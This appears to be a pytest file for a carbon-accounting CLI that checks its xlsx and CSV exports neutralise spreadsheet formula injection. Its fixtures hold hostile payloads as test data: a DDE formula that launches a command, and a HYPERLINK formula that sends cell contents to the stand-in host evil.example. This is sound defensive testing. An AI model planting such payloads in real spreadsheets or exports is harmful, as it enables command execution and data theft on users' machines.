"""The CLI's spreadsheet outputs cannot run what an input file holds (issue 12, item 1: formula injection).

Entities and items that start with "=", "+", "-", "@", a tab or a CR are written with a single quote in front
in ``-o x.xlsx`` and in CSV (the totals and the lines, written by DuckDB or through pandas); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dualcarbon.cli import main
from dualcarbon.engine import safe_cells

DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
ITEMS = [HYPERLINK, "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2"]
HEADER = (
    "entity,period,source_type,item,quantity,unit,ncv,ncv_unit,carbon_content,oxidation_rate,factor,factor_unit,region"
)


def _quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def activity(tmp_path: Path) -> Path:
    lines = [HEADER, f"{_quote(DDE)},2024-01,fuel_combustion,原煤,1000,t,,,,,,,"]
    lines += [
        f"91330500MA2B3C4D5E,2024-01,process,{_quote(item)},{10 + i},t,,,,,0.5,tCO2/t," for i, item in enumerate(ITEMS)
    ]
    path = tmp_path / "activity.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_csv_safe(text: str, expected: list[str]) -> None:
    cells = _csv_cells(text)
    assert [c for c in cells if safe_cells.is_dangerous(c)] == []
    for value in expected:
        assert "'" + value in cells, value


def test_xlsx_output_holds_entities_and_items_as_text(activity: Path, tmp_path: Path) -> None:
    out = tmp_path / "x.xlsx"
    assert main(["account", str(activity), "-o", str(out)]) == 0
    wb = load_workbook(out, data_only=False)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [
        f"{c.coordinate}={c.value!r}" for c in cells if c.data_type == "f" or safe_cells.is_dangerous(c.value)
    ] == []
    values = {c.value for c in cells}
    assert "'" + DDE in values
    for item in ITEMS:
        stripped = item.strip()  # the engine trims the input's cells
        assert "'" + stripped in values or "'" + item in values, item
    # numbers stay numbers
    lines = list(wb["明细 lines"].iter_rows(values_only=True))
    head = lines[0]
    assert all(isinstance(r[head.index("tco2e")], (int, float)) for r in lines[1:])


@pytest.mark.parametrize("lines", [False, True], ids=["totals", "lines"])
def test_csv_output_written_by_duckdb_quotes_dangerous_text(activity: Path, tmp_path: Path, lines: bool) -> None:
    out = tmp_path / "x.csv"
    assert main(["account", str(activity), "-o", str(out), *(["--lines"] if lines else [])]) == 0
    text = out.read_text(encoding="utf-8")
    _assert_csv_safe(text, [DDE, HYPERLINK, "+SUM(1,2)", "@SUM(A1:A9)"] if lines else [DDE])
    if not lines:
        totals = list(csv.DictReader(io.StringIO(text)))
        assert {r["entity"] for r in totals} == {"'" + DDE, "91330500MA2B3C4D5E"}
        assert all(float(r["total_tco2e"]) > 0 for r in totals)


def test_csv_on_standard_output_quotes_dangerous_text(activity: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["account", str(activity), "--format", "csv", "--lines"]) == 0
    _assert_csv_safe(capsys.readouterr().out, [DDE, HYPERLINK, "-2+3"])
